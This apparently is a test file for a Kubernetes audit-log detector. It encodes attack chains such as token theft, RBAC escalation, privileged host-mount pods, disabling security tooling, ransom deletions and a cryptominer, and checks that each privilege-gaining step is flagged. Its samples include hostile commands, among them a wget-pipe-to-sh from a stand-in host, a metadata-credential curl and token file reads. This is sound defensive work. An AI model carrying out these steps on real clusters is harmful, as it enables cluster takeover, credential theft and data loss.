import { describe, expect, it } from 'vitest';
import { findingOf, podOf, type Sample, templateOf } from './audit-requests.ts';

/**
 * Chains of attack by their public descriptions: ATT&CK for Containers, the threat matrix for Kubernetes, and the actions of
 * the tools that red teams use. `!` marks a step that gains a right: it must be told.
 */
type Step = readonly [mark: '!' | '', sample: Sample];

const rbac = 'rbac.authorization.k8s.io';
const query = (...words: readonly string[]): string =>
  words.map((word) => `command=${encodeURIComponent(word)}`).join('&');
const denied = { code: 403, decision: 'forbid' } as const;
const admin = (subject: unknown) => ({ roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [subject] });
const review = (by: string, agent = 'curl/8.5.0'): Step => [
  '',
  { by, agent, does: 'create authorization.k8s.io:selfsubjectrulesreviews -' },
];
const root = podOf(
  { hostPID: true, volumes: [{ name: 'r', hostPath: { path: '/' } }] },
  { securityContext: { privileged: true } },
);

function token(by: string): readonly Step[] {
  return [
    review(by, 'kubectl/v1.36'),
    ['', { by, does: 'list secrets -', agent: 'kubectl/v1.36', ...denied }],
    ['', { by, does: 'list secrets shop/', agent: 'kubectl/v1.36' }],
    ['!', { by, does: 'get secrets shop/db', agent: 'kubectl/v1.36' }],
  ];
}

const chains: Readonly<Record<string, readonly Step[]>> = {
  'a stolen token of a Pod to the node': [
    ...token('shop/web'),
    ['!', { by: 'shop/web', does: 'create pods shop/x', body: root }],
    ['!', { by: 'shop/web', does: 'create pods/exec shop/x', query: query('chroot', '/host', 'sh') }],
    [
      '!',
      {
        by: 'system:node:n1',
        does: 'create serviceaccounts/token kube-system/daemon-set-controller',
        agent: 'curl/8.5.0',
      },
    ],
    [
      '!',
      { by: 'kube-system/daemon-set-controller', does: 'create pods kube-system/y', body: root, agent: 'curl/8.5.0' },
    ],
  ],
  'a stolen token that binds itself': [
    ...token('ci/deployer'),
    [
      '!',
      {
        by: 'ci/deployer',
        does: `create ${rbac}:clusterroles x`,
        body: { rules: [{ verbs: ['bind', 'escalate'], resources: ['clusterroles'] }] },
      },
    ],
    [
      '!',
      {
        by: 'ci/deployer',
        does: `create ${rbac}:clusterrolebindings x`,
        body: admin({ kind: 'ServiceAccount', name: 'deployer', namespace: 'ci' }),
      },
    ],
    ['!', { by: 'ci/deployer', does: 'list secrets -' }],
    ['', { by: 'ci/deployer', does: 'delete events shop/x.1' }],
  ],
  "a developer's kubeconfig": [
    ['', { by: 'bob', does: 'list pods shop/' }],
    ['', { by: 'bob', does: 'list secrets -', ...denied }],
    ['', { by: 'bob', does: 'list secrets shop/' }],
    [
      '!',
      {
        by: 'bob',
        does: 'get pods/exec shop/web',
        query: query('cat', '/run/secrets/kubernetes.io/serviceaccount/token'),
      },
    ],
    ['!', { by: 'bob', does: 'create serviceaccounts/token shop/operator' }],
    ['!', { by: 'shop/operator', does: 'get secrets pay/db', agent: 'kubectl/v1.36' }],
    [
      '!',
      {
        by: 'shop/operator',
        does: `create ${rbac}:rolebindings pay/x`,
        body: admin({ kind: 'User', name: 'bob' }),
        agent: 'kubectl/v1.36',
      },
    ],
    ['', { by: 'bob', does: 'delete apps:deployments pay/api' }],
    ['', { by: 'bob', does: 'deletecollection events pay/' }],
  ],
  'persistence by a CronJob and a client certificate': [
    ['', { by: 'eve', does: 'create namespaces kube-monitoring' }],
    ['!', { by: 'eve', does: 'create serviceaccounts kube-monitoring/agent' }],
    [
      '!',
      {
        by: 'eve',
        does: `create ${rbac}:clusterrolebindings agent`,
        body: admin({ kind: 'ServiceAccount', name: 'agent', namespace: 'kube-monitoring' }),
      },
    ],
    [
      '',
      {
        by: 'eve',
        does: 'create batch:cronjobs kube-monitoring/sync',
        body: { spec: { jobTemplate: { spec: { template: podOf() } } } },
      },
    ],
    [
      '!',
      {
        by: 'eve',
        does: 'create certificates.k8s.io:certificatesigningrequests x',
        body: { spec: { signerName: 'kubernetes.io/kube-apiserver-client' } },
      },
    ],
    ['!', { by: 'eve', does: 'update certificates.k8s.io:certificatesigningrequests/approval x' }],
    ['!', { by: 'eve', does: 'create secrets kube-monitoring/agent-token' }],
    ['!', { by: 'kube-monitoring/agent', does: 'list secrets -', agent: 'python-requests/2.32' }],
  ],
  'a mutating webhook that adds a container': [
    ['', { by: 'eve', does: 'create apps:deployments shop/hook', body: templateOf() }],
    ['', { by: 'eve', does: 'create services shop/hook', body: { spec: { type: 'ClusterIP' } } }],
    ['', { by: 'eve', does: 'create secrets shop/hook-tls' }],
    ['!', { by: 'eve', does: 'create admissionregistration.k8s.io:mutatingwebhookconfigurations hook' }],
    ['!', { by: 'eve', does: 'patch admissionregistration.k8s.io:validatingwebhookconfigurations kyverno' }],
    ['!', { by: 'eve', does: 'create kyverno.io:policyexceptions shop/x' }],
    [
      '!',
      {
        by: 'eve',
        does: 'patch namespaces shop',
        body: { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } },
      },
    ],
    ['!', { by: 'eve', does: 'create pods shop/x', body: root }],
  ],
  'a compromised operator': [
    ['', { by: 'keda/keda-operator', does: 'list pods keda/' }],
    ['!', { by: 'keda/keda-operator', does: 'list secrets -', agent: 'curl/8.5.0' }],
    ['!', { by: 'keda/keda-operator', does: 'create pods/exec shop/web', query: query('sh') }],
    ['!', { by: 'keda/keda-operator', does: 'create pods shop/x', body: root }],
    [
      '!',
      {
        by: 'keda/keda-operator',
        does: `create ${rbac}:clusterrolebindings x`,
        body: admin({ kind: 'User', name: 'eve' }),
      },
    ],
    ['!', { by: 'keda/keda-operator', does: 'create serviceaccounts/token kube-system/namespace-controller' }],
    ['!', { by: 'keda/keda-operator', does: 'create pods kube-system/x', body: podOf() }],
    [
      '!',
      { by: 'keda/keda-operator', does: 'update admissionregistration.k8s.io:validatingwebhookconfigurations keda' },
    ],
  ],
  'somebody with a node': [
    ['!', { by: 'system:node:n1', does: 'create serviceaccounts/token shop/web', agent: 'curl/8.5.0' }],
    ['', { by: 'system:node:n1', does: 'get secrets shop/db', agent: 'kubectl/v1.36' }],
    ['', { by: 'system:node:n1', does: 'list secrets -', agent: 'kubectl/v1.36', ...denied }],
    ['', { by: 'system:node:n1', does: 'patch nodes n1', agent: 'kubectl/v1.36' }],
    ['!', { by: 'system:node:n1', does: 'create pods kube-system/static-n1', body: root, agent: 'kubectl/v1.36' }],
    [
      '!',
      {
        by: 'system:node:n1',
        does: 'create certificates.k8s.io:certificatesigningrequests x',
        agent: 'curl/8.5.0',
        body: { spec: { signerName: 'kubernetes.io/kube-apiserver-client' } },
      },
    ],
    ['!', { by: 'system:node:n1', does: 'create pods/exec shop/web', query: query('sh'), agent: 'kubectl/v1.36' }],
    ['!', { by: 'shop/web', does: 'get nodes/proxy n2', path: '/api/v1/nodes/n2/proxy/pods' }],
  ],
  'nodes/proxy without a trace in exec': [
    review('mon/agent'),
    ['', { by: 'mon/agent', does: 'get nodes/proxy n1', path: '/api/v1/nodes/n1/proxy/pods' }],
    [
      '!',
      { by: 'mon/agent', does: 'create nodes/proxy n1', path: '/api/v1/nodes/n1/proxy/run/kube-system/etcd-1/etcd' },
    ],
    [
      '!',
      {
        by: 'system:node:n1',
        does: 'create authorization.k8s.io:subjectaccessreviews -',
        agent: 'kubelet/v1.36',
        body: {
          spec: {
            user: 'system:serviceaccount:mon:agent',
            resourceAttributes: { resource: 'nodes', subresource: 'proxy' },
          },
        },
      },
    ],
    [
      '!',
      {
        by: 'mon/agent',
        does: 'get pods/proxy kube-system/dashboard',
        path: '/api/v1/namespaces/kube-system/pods/dashboard/proxy/',
      },
    ],
    ['!', { by: 'mon/agent', does: 'list secrets -' }],
    ['!', { by: 'kubernetes-admin', groups: ['system:masters'], does: 'create configmaps shop/x' }],
    ['', { by: 'kubernetes-admin', groups: ['system:masters'], does: 'delete namespaces shop' }],
  ],
  'anonymous rights': [
    ['', { by: 'system:anonymous', groups: ['system:unauthenticated'], does: 'GET /api' }],
    ['', { by: 'system:anonymous', groups: ['system:unauthenticated'], does: 'list secrets -', ...denied }],
    ['!', { by: 'system:anonymous', groups: ['system:unauthenticated'], does: 'list pods -' }],
    ['!', { by: 'system:anonymous', groups: ['system:unauthenticated'], does: 'create pods default/x', body: podOf() }],
    [
      '!',
      {
        by: 'system:anonymous',
        groups: ['system:unauthenticated'],
        does: `create ${rbac}:clusterrolebindings x`,
        body: admin({ kind: 'Group', name: 'system:unauthenticated' }),
      },
    ],
    ['!', { by: 'system:anonymous', groups: ['system:unauthenticated'], does: 'list secrets -' }],
    [
      '!',
      {
        by: 'system:anonymous',
        groups: ['system:unauthenticated'],
        does: 'create apps:daemonsets kube-system/kube-controller',
        body: templateOf({ hostNetwork: true }),
      },
    ],
    ['', { by: 'system:anonymous', groups: ['system:unauthenticated'], does: `delete ${rbac}:clusterroles x` }],
  ],
  impersonation: [
    ['', { by: 'eve', does: 'list pods -', as: 'bob', ...denied }],
    ['!', { by: 'eve', does: 'list secrets -', as: 'root', asGroups: ['system:masters'] }],
    ['!', { by: 'eve', does: 'create pods shop/x', as: 'kube-system/replicaset-controller', body: root }],
    ['!', { by: 'eve', does: 'get secrets pay/db', as: 'system:node:n1', asGroups: ['system:nodes'] }],
    ['!', { by: 'eve', does: 'create secrets pay/x', as: 'argocd/argocd-application-controller' }],
    [
      '!',
      { by: 'eve', does: `create ${rbac}:rolebindings pay/x`, as: 'bob', body: admin({ kind: 'User', name: 'bob' }) },
    ],
    ['!', { by: 'cattle-system/rancher', does: 'list secrets -', as: 'kube-system/default' }],
    ['', { by: 'eve', does: 'deletecollection events pay/', as: 'bob' }],
  ],
  'the cloud through a ServiceAccount': [
    ['', { by: 'eve', does: 'list serviceaccounts shop/' }],
    [
      '!',
      {
        by: 'eve',
        does: 'patch serviceaccounts shop/web',
        body: { metadata: { annotations: { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::111122223333:role/admin' } } },
      },
    ],
    ['!', { by: 'eve', does: 'create pods shop/aws', body: podOf({ serviceAccountName: 'web' }) }],
    ['!', { by: 'eve', does: 'create pods/exec shop/aws', query: query('aws', 'sts', 'get-caller-identity') }],
    [
      '!',
      {
        by: 'eve',
        does: 'create pods/exec shop/aws',
        query: query('cat', '/var/run/secrets/eks.amazonaws.com/serviceaccount/token'),
      },
    ],
    [
      '!',
      { by: 'eve', does: 'create pods/exec shop/aws', query: query('curl', 'http://169.254.170.23/v1/credentials') },
    ],
    ['!', { by: 'eve', does: 'patch configmaps kube-system/aws-auth' }],
    ['', { by: 'eve', does: 'delete pods shop/aws' }],
  ],
  'the supply of deployments': [
    ['', { by: 'eve', does: 'list argoproj.io:applications argocd/' }],
    ['!', { by: 'eve', does: 'get secrets argocd/argocd-initial-admin-secret' }],
    ['!', { by: 'eve', does: 'patch configmaps argocd/argocd-rbac-cm' }],
    ['!', { by: 'eve', does: 'create secrets argocd/repo-evil' }],
    ['!', { by: 'eve', does: 'create argoproj.io:applications argocd/evil' }],
    [
      '!',
      {
        by: 'argocd/argocd-application-controller',
        does: `create ${rbac}:clusterrolebindings evil`,
        body: admin({ kind: 'User', name: 'eve' }),
      },
    ],
    [
      '!',
      {
        by: 'argocd/argocd-application-controller',
        does: 'create apps:daemonsets shop/evil',
        body: templateOf({}, { securityContext: { privileged: true } }),
      },
    ],
    ['', { by: 'eve', does: 'delete argoproj.io:applications argocd/evil' }],
  ],
  'a man in the middle': [
    ['', { by: 'eve', does: 'list services -' }],
    ['!', { by: 'eve', does: 'create services shop/x', body: { spec: { externalIPs: ['203.0.113.53'] } } }],
    ['!', { by: 'eve', does: 'patch services/status shop/x' }],
    ['!', { by: 'eve', does: 'patch endpoints shop/db' }],
    ['!', { by: 'eve', does: 'create discovery.k8s.io:endpointslices shop/db-x' }],
    ['!', { by: 'eve', does: 'update configmaps kube-system/coredns' }],
    ['!', { by: 'eve', does: 'create apiregistration.k8s.io:apiservices v1.custom.metrics' }],
    [
      '!',
      {
        by: 'eve',
        does: 'patch apiextensions.k8s.io:customresourcedefinitions x',
        body: { spec: { conversion: { strategy: 'Webhook' } } },
      },
    ],
  ],
  'blinding the watchers': [
    ['', { by: 'eve', does: 'list pods falco/' }],
    ['', { by: 'eve', does: 'delete apps:daemonsets falco/falco' }],
    ['', { by: 'eve', does: 'patch apps:deployments/scale kyverno/kyverno', body: { spec: { replicas: 0 } } }],
    ['', { by: 'eve', does: 'create zen.kube-zen.io:observationfilters zen-system/off' }],
    ['', { by: 'eve', does: 'deletecollection zen.kube-zen.io:observations shop/' }],
    ['', { by: 'eve', does: 'delete kyverno.io:clusterpolicies restrict' }],
    ['', { by: 'eve', does: 'patch configmaps falco/falco-rules' }],
    ['', { by: 'eve', does: 'delete networking.k8s.io:networkpolicies shop/deny' }],
    ['!', { by: 'eve', does: 'create pods shop/x', body: root }],
  ],
  ransom: [
    ['', { by: 'eve', does: 'list persistentvolumes -' }],
    ['', { by: 'eve', does: 'list secrets -' }],
    ['!', { by: 'eve', does: 'get pods/exec shop/db-0', query: query('sh', '-c', 'tar czf - /var/lib/postgresql') }],
    ['', { by: 'eve', does: 'delete velero.io:backups velero/daily' }],
    ['', { by: 'eve', does: 'delete snapshot.storage.k8s.io:volumesnapshots shop/s' }],
    ['', { by: 'eve', does: 'delete apps:statefulsets shop/db' }],
    ['', { by: 'eve', does: 'deletecollection persistentvolumeclaims shop/' }],
    ['', { by: 'eve', does: 'delete persistentvolumes pv1' }],
    ['', { by: 'eve', does: 'delete namespaces shop' }],
  ],
  'a miner': [
    ['', { by: 'eve', does: 'list nodes -' }],
    ['', { by: 'eve', does: 'create namespaces work' }],
    ['', { by: 'eve', does: 'create apps:daemonsets work/agent', body: templateOf() }],
    [
      '',
      {
        by: 'eve',
        does: 'create pods/exec work/agent-1',
        query: query('sh', '-c', 'wget -qO- http://x.example/m | sh'),
      },
    ],
    [
      '!',
      {
        by: 'eve',
        does: 'patch apps:daemonsets work/agent',
        body: templateOf({}, { securityContext: { privileged: true } }),
      },
    ],
    ['', { by: 'eve', does: 'create batch:cronjobs work/again' }],
    ['', { by: 'eve', does: 'create services work/c2', body: { spec: { type: 'LoadBalancer' } } }],
    ['', { by: 'eve', does: 'patch nodes n1', body: { spec: { taints: [] } } }],
  ],
};

describe('a chain of attack', () => {
  it.each(Object.entries(chains))('is told, and every right that it gains: %s', (_name, steps) => {
    const silent = steps.filter(([, sample]) => findingOf(sample) === undefined);
    expect(silent.filter(([mark]) => mark === '!').map(([, sample]) => sample)).toEqual([]);
    expect(silent.length).toBeLessThanOrEqual(2);
  });

  it('leaves at most one step in six untold', () => {
    const steps = Object.values(chains).flat();
    const silent = steps.filter(([, sample]) => findingOf(sample) === undefined);
    expect(silent.length / steps.length).toBeLessThanOrEqual(1 / 6);
  });
});
